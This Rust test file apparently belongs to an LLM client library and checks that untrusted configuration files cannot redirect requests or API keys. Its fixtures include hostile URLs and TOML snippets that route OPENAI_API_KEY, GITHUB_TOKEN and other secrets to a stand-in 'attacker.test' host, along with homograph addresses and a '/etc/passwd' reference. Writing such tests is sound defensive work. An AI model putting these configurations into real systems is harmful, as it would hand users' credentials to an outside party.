//! R-F7: where requests go, and with whose key, whatever a configuration says.

use proptest::prelude::{Just, Strategy, any, prop_oneof};
use proptest::strategy::ValueTree as _;
use proptest::test_runner::TestRunner;
use proptest::{collection, option, proptest};

use super::super::{Client, ClientOptions, PlainHttp, Secret};
use super::{check, join};
use crate::{Catalog, Config, Planner, Provider};

#[test]
fn paths_are_joined_below_the_host_or_refused() {
    let rows = [
        ("https://api.example/v1", "/models", Ok("https://api.example/v1/models")),
        ("https://api.example/v1/", "/models?alt=sse", Ok("https://api.example/v1/models?alt=sse")),
        ("https://api.example", "/a@b:c", Ok("https://api.example/a@b:c")),
        ("https://me:word@api.example", "/x", Ok("https://me:word@api.example/x")),
        ("https://api.example", "/%2Fattacker.test", Ok("https://api.example/%2Fattacker.test")),
        ("https://api.example", "/x:9443/y", Ok("https://api.example/x:9443/y")),
        // The attacks of the issue, and their relatives.
        ("https://api.example", ".attacker.test:9443/chat/completions", Err("start with one `/`")),
        ("https://localhost", ".attacker.test:9443/chat", Err("start with one `/`")),
        ("https://api.example", "@attacker.test/x", Err("start with one `/`")),
        ("https://api.example", ":9443/x", Err("start with one `/`")),
        ("https://api.example", "", Err("start with one `/`")),
        ("https://api.example", "//attacker.test/x", Err("start with one `/`")),
        ("https://api.example", "/\\attacker.test/x", Err("`\\\\`")),
        ("https://api.example\\@attacker.test", "/x", Err("`\\\\`")),
        ("https://api.example", "/\t/attacker.test", Err("`\\t`")),
        ("https://api.exa\nmple", "/x", Err("`\\n`")),
        ("https://api.example", "/a\u{0}b", Err("`\\u{0}`")),
        ("https://api.example#", "/x", Err("`#`")),
        ("https://api.example?q=", "/x", Err("`?`")),
        ("https://api.example/v1", "/../../x", Err("segments")),
        ("https://api.example/v1", "/%2e%2E/x", Err("segments")),
        ("https://api.example/v1/..", "/x", Err("segments")),
        ("data:text/plain", "/x", Err("host")),
        ("api.example", "/x", Err("relative URL")),
    ];
    for (base, path, expected) in rows {
        match (join(base, path), expected) {
            (Ok(url), Ok(expected)) => {
                assert_eq!(url.as_str(), expected);
                assert_eq!(check(&url, base, PlainHttp::LoopbackOnly), Ok(()), "{url}");
            }
            (Err(why), Err(expected)) => assert!(why.contains(expected), "{base} {path}: {why}"),
            (got, expected) => panic!("{base} {path}: {got:?}, expected {expected:?}"),
        }
    }
}

#[test]
fn requests_go_only_to_the_own_scheme_host_port_and_login() {
    let base = "https://api.example:8443/v1";
    for (url, allowed) in [
        ("https://api.example:8443/v1/chat", true),
        ("https://API.example:8443/other", true),
        ("http://api.example:8443/v1/chat", false),
        ("https://api.example/v1/chat", false),
        ("https://api.example:9443/v1/chat", false),
        ("https://api.example.attacker.test:8443/v1/chat", false),
        ("https://attacker.test:8443/v1/chat", false),
        ("https://api.example@attacker.test:8443/v1", false),
        ("https://api.example:8443@attacker.test/v1", false),
        ("https://me@api.example:8443/v1", false),
        ("https://аpi.example:8443/v1", false),
        ("https://xn--pi-6kc.example:8443/v1", false),
        ("https://api。example:8443/v1/x", true),
        ("https://[::ffff:127.0.0.1]:8443/v1", false),
        ("file:///v1", false),
    ] {
        let parsed = reqwest::Url::parse(url).expect("an address");
        assert_eq!(check(&parsed, base, PlainHttp::Anywhere).is_ok(), allowed, "{url}");
    }
    let plain = |url: &str, plain_http| check(&reqwest::Url::parse(url).expect("an address"), url, plain_http).is_ok();
    assert!(plain("http://127.0.0.1/x", PlainHttp::LoopbackOnly) && plain("http://[::1]/x", PlainHttp::LoopbackOnly));
    assert!(
        !plain("http://api.example/x", PlainHttp::LoopbackOnly) && plain("http://api.example/x", PlainHttp::Anywhere)
    );
    assert!(!plain("http://localhost.attacker.test/x", PlainHttp::LoopbackOnly));
    assert!(!plain("ftp://api.example/x", PlainHttp::Anywhere));
}

/// The seven configurations of the issue and relatives of them; each delivered a key to the attacker, or would have.
const ATTACKS: [(&str, &str); 18] = [
    (
        "glued surface",
        "[[provider]]\nid = \"deepseek\"\n[[provider.surface]]\nid = \"chat\"\nprotocol = \"openai-chat\"\npath = \".attacker.test:9443/chat/completions\"\ndialects = {}",
    ),
    (
        "glued list",
        "[[provider]]\nid = \"openai\"\nlist = { style = \"openai\", path = \".attacker.test:9443/models\", after = \"host\" }",
    ),
    (
        "glued to localhost",
        "[[provider]]\nid = \"openai\"\nbase-url = \"https://localhost\"\n[[provider.surface]]\nid = \"chat\"\nprotocol = \"openai-chat\"\npath = \".attacker.test:9443/x\"\ndialects = {}",
    ),
    (
        "key in the path",
        "[defaults]\nmodel = \"new/x\"\n[[provider]]\nid = \"new\"\nlike = \"openai\"\nbase-url = \"https://attacker.test/{env OPENAI_API_KEY}\"\nauth = { style = \"none\", env = [] }",
    ),
    (
        "another's token",
        "[[provider]]\nid = \"new\"\nlike = \"openai\"\nbase-url = \"https://attacker.test\"\nauth = { style = \"bearer\", env = [\"GITHUB_TOKEN\"] }",
    ),
    (
        "keys as ids",
        "[[provider]]\nid = \"new\"\nlike = \"bedrock\"\nbase-url = \"https://attacker.test\"\nauth = { style = \"aws-sigv4\", env = [], signature = { service = \"s\", id-env = \"ANTHROPIC_API_KEY\", secret-env = \"HOME\", session-env = \"OPENAI_API_KEY\", region-env = [\"HOME\"] } }",
    ),
    (
        "key in the body",
        "[[provider]]\nid = \"new\"\nlike = \"gemini-cli\"\nbase-url = \"https://attacker.test\"\nauth = { style = \"none\", env = [] }\n[[provider.surface]]\nid = \"generate\"\nprotocol = \"gemini\"\npath = \"/x\"\ndialects = {}\nwire = { envelope = \"code-assist\", envelope-fields = { project = \"{env OPENAI_API_KEY}\" } }",
    ),
    (
        "typed key in the body",
        "[[provider]]\nid = \"gemini-cli\"\n[[provider.surface]]\nid = \"generate\"\nprotocol = \"gemini\"\npath = \"/x\"\ndialects = {}\nenvelope-env = { project = [\"OPENAI_API_KEY\"] }",
    ),
    (
        "typed key in the host",
        "[[provider]]\nid = \"openai\"\nbase-url = \"https://{x}.attacker.test.example\"\nbase-url-variables = { x = [\"OPENAI_API_KEY\"] }",
    ),
    ("another address", "[[provider]]\nid = \"openai\"\nbase-url = \"https://attacker.test/v1\""),
    ("an address from a variable", "[[provider]]\nid = \"openai\"\nbase-url-env = [\"PWD\"]\norigin-env = [\"PWD\"]"),
    (
        "a login before the host",
        "[[provider]]\nid = \"openai\"\nbase-url = \"https://api.openai.com@attacker.test/v1\"",
    ),
    ("a homograph", "[[provider]]\nid = \"openai\"\nbase-url = \"https://api.оpenai.com/v1\""),
    ("no encryption", "[[provider]]\nid = \"openai\"\nbase-url = \"http://api.openai.com/v1\""),
    ("another's key", "[[provider]]\nid = \"ollama\"\nauth = { style = \"bearer\", env = [\"OPENAI_API_KEY\"] }"),
    ("a header", "[[provider]]\nid = \"openai\"\nheaders = { \"x-key\" = \"{env OPENAI_API_KEY}\" }"),
    (
        "an alias of another",
        "[[provider]]\nid = \"new\"\naliases = [\"openai\"]\nlike = \"openai\"\nbase-url = \"https://attacker.test\"\nauth = { style = \"bearer\", env = [\"OPENAI_API_KEY\"] }",
    ),
    ("a file", "dialects = [\"/etc/passwd\"]"),
];

#[test]
fn r_f7_an_untrusted_configuration_changes_no_provider() {
    for (name, text) in ATTACKS {
        let read = Config::read_untrusted(text).unwrap_or_else(|mistakes| panic!("{name}: {mistakes:?}"));
        assert!(!read.ignored.is_empty(), "{name}: it is said");
        assert_untouched(&read.config, name);
    }
}

/// What is wrong in a trusted configuration too: a path that is glued to the host, text in the place of variables, addresses that
/// are not plain ones.
#[test]
fn mistakes_in_addresses_have_lines() {
    let expected = [
        ("glued surface", 6, "must start with `/`"),
        ("glued list", 3, "must start with `/`"),
        ("glued to localhost", 7, "must start with `/`"),
        ("key in the path", 3, "`base-url-variables` lacks"),
        ("typed key in the host", 1, ""),
        ("a login before the host", 1, "must not have `@` in its host"),
        ("a homograph", 1, "in its host"),
    ];
    for (name, line, says) in expected {
        let (_, text) = ATTACKS.into_iter().find(|(attack, _)| *attack == name).expect("an attack");
        match Config::read(text, &|_| Err("no files".to_owned())) {
            Err(mistakes) => {
                assert_eq!((mistakes[0].line, mistakes.len()), (line, 1), "{name}: {mistakes:?}");
                assert!(mistakes[0].what.contains(says), "{name}: {mistakes:?}");
            }
            Ok(_) => assert!(says.is_empty(), "{name} is read"),
        }
    }
}

/// Every provider is as the library has it, and every request goes to its own address with its own key.
fn assert_untouched(config: &Config, name: &str) {
    let built_in = Catalog::built_in();
    let mut catalog = config.base(built_in);
    config.over(&mut catalog);
    let rows: Vec<&Provider> = catalog.providers().collect();
    assert_eq!(rows, built_in.providers().collect::<Vec<_>>(), "{name}");
    let mut client = Client::with_options(ClientOptions::default()).expect("a client");
    for row in built_in.providers() {
        client = client.with_key(&row.id, Secret::new(format!("key-of-{}", row.id)));
    }
    let planner = Planner::new(crate::PlanOptions::default());
    let request = polywire_wire::Request::new("", vec![polywire_wire::Message::user("Hi")]);
    let configured: Vec<String> = config.models().map(|(provider, id)| format!("{provider}/{id}")).collect();
    let surfaces =
        rows.iter().flat_map(|row| row.surfaces.iter().map(|surface| format!("{}:{}/m", row.id, surface.id)));
    for name in configured.into_iter().chain(surfaces) {
        let Ok(model) = catalog.resolve(&name) else { continue };
        let row = model.provider();
        // An address from the environment of whoever runs the tests does not count here.
        let Some(base) = home(row) else { continue };
        let client = client.clone().with_base_url(&row.id, &base);
        let plan = planner.plan(&request, &model).expect("a plan");
        for stream in [false, true] {
            let Ok(place) = client.destination(&plan, &model, stream) else { continue };
            assert_own(&place, row, &base);
        }
        if let Some((below, path)) = row.list_place(&base) {
            assert_own(&client.prepare_get(row, below, path, &row.own_headers()).expect("a list"), row, &base);
        }
    }
}

/// The address of a built-in row, with something in the place of its variables.
fn home(row: &Provider) -> Option<String> {
    let usual = Catalog::built_in().provider(&row.id)?;
    crate::address::fill(&usual.base_url, &usual.base_url_variables, &|_| Some("eu-1".to_owned())).ok()
}

fn assert_own(place: &super::super::address::Destination, row: &Provider, base: &str) {
    let base = reqwest::Url::parse(base).expect("an address");
    assert_eq!(place.url.origin(), base.origin(), "{}", place.url);
    let headers = place.headers(std::time::SystemTime::UNIX_EPOCH).expect("headers");
    let own = format!("key-of-{}", row.id);
    let shown: Vec<&str> = headers.values().filter_map(|value| value.to_str().ok()).collect();
    let keys: Vec<&&str> = shown.iter().filter(|value| value.contains("key-of-")).collect();
    assert!(keys.len() == 1 && keys[0].trim_start_matches("Bearer ") == own, "{}: {keys:?}", row.id);
    let shown = format!("{}{}", place.url, String::from_utf8_lossy(&place.body));
    assert!(!shown.contains("key-of-"), "{shown}");
}

/// Values that would like to lead elsewhere.
fn hostile() -> impl Strategy<Value = String> {
    let texts = [
        "https://attacker.test/v1",
        ".attacker.test:9443/x",
        "@attacker.test",
        "//attacker.test",
        "\\\\attacker.test",
        "{env OPENAI_API_KEY}",
        "OPENAI_API_KEY",
        "../../x",
        "..",
        "a/b?c#d@e",
        "http://127.0.0.1:9",
        "openai",
        "chat",
        "/x",
        "x\u{202e}\ty",
    ];
    prop_oneof![proptest::sample::select(texts.to_vec()).prop_map(str::to_owned), "[ -~]{0,12}", any::<String>()]
}

fn provider_id() -> impl Strategy<Value = String> {
    let ids: Vec<String> = Catalog::built_in().providers().map(|row| row.id.clone()).collect();
    prop_oneof![proptest::sample::select(ids), Just("new".to_owned()), hostile()]
}

/// A field of a table: a text, a list, a table.
fn field(names: &'static [&'static str]) -> impl Strategy<Value = (String, toml::Value)> {
    let text = || hostile().prop_map(toml::Value::from);
    let table =
        collection::btree_map(hostile(), text(), 0..3).prop_map(|map| toml::Value::Table(map.into_iter().collect()));
    let value = prop_oneof![text(), collection::vec(text(), 0..3).prop_map(toml::Value::from), table];
    (proptest::sample::select(names.to_vec()).prop_map(str::to_owned), value)
}

const PROVIDER: &[&str] = &[
    "like",
    "title",
    "aliases",
    "base-url",
    "base-url-env",
    "base-url-env-path",
    "base-url-variables",
    "origin-env",
    "also-at",
    "auth",
    "headers",
    "list",
    "unknown",
    "id-prefixes",
    "id-suffixes",
    "surface",
];
const MODEL: &[&str] = &["family", "aliases", "dated", "surfaces", "deprecated", "tools-stop-thinking"];

fn table(id: impl Strategy<Value = String>, names: &'static [&'static str]) -> impl Strategy<Value = toml::Table> {
    (id, collection::vec(field(names), 0..5)).prop_map(|(id, fields)| {
        let mut table: toml::Table = fields.into_iter().collect();
        table.insert("id".to_owned(), id.into());
        table
    })
}

/// A value as TOML; the feature of the crate that writes it is not used elsewhere.
fn written(value: &toml::Value) -> String {
    match value {
        toml::Value::String(text) => quoted(text),
        toml::Value::Array(items) => format!("[{}]", items.iter().map(written).collect::<Vec<_>>().join(", ")),
        toml::Value::Table(table) => format!("{{ {} }}", members(table).join(", ")),
        toml::Value::Integer(number) => number.to_string(),
        toml::Value::Boolean(flag) => flag.to_string(),
        toml::Value::Float(_) | toml::Value::Datetime(_) => "0".to_owned(),
    }
}

fn members(table: &toml::Table) -> Vec<String> {
    table.iter().map(|(key, value)| format!("{} = {}", quoted(key), written(value))).collect()
}

fn quoted(text: &str) -> String {
    let plain = |letter: char| letter.is_ascii_alphanumeric() || " -_./:@{}".contains(letter);
    let escape =
        |letter: char| if plain(letter) { letter.to_string() } else { format!("\\U{:08X}", u32::from(letter)) };
    format!("\"{}\"", text.chars().map(escape).collect::<String>())
}

fn document() -> impl Strategy<Value = String> {
    // Mostly models that are read, so that most cases test more than the refusal.
    let fields = prop_oneof![9 => Just(toml::Table::new()), 1 => table(hostile(), MODEL)];
    let names = || collection::vec(hostile(), 0..3);
    let model =
        (provider_id(), hostile(), names(), names(), fields).prop_map(|(provider, id, aliases, dated, mut table)| {
            for (name, value) in [("provider", provider.into()), ("id", id.into()), ("aliases", aliases.into())] {
                table.insert(name.to_owned(), value);
            }
            table.insert("dated".to_owned(), dated.into());
            table
        });
    let parts = (
        collection::vec(table(provider_id(), PROVIDER), 0..3),
        collection::vec(model, 0..4),
        option::of(hostile()),
        option::of(hostile()),
    );
    parts.prop_map(|(providers, models, default, dialect)| {
        let mut document = toml::Table::new();
        document.insert("provider".to_owned(), providers.into());
        document.insert("model".to_owned(), models.into());
        if let Some(model) = default {
            document.insert("defaults".to_owned(), toml::Table::from_iter([("model".to_owned(), model.into())]).into());
        }
        if let Some(path) = dialect {
            document.insert("dialects".to_owned(), vec![path].into());
        }
        members(&document).join("\n")
    })
}

/// The property below is worth something only if it is not refusals that it sees.
#[test]
fn most_random_configurations_are_read() {
    let mut runner = TestRunner::deterministic();
    let read = |_| document().new_tree(&mut runner).is_ok_and(|tree| Config::read_untrusted(&tree.current()).is_ok());
    let count = (0..200).map(read).filter(|is_read| *is_read).count();
    assert!(count > 50, "{count} of 200");
}

proptest! {
    /// R-F7: whatever a configuration that nobody trusts says, requests go to the addresses of the built-in rows, each with the
    /// key of its own row.
    #[test]
    fn r_f7_requests_of_untrusted_configurations_go_home(text in document()) {
        if let Ok(read) = Config::read_untrusted(&text) {
            assert_untouched(&read.config, &text);
        }
    }
}
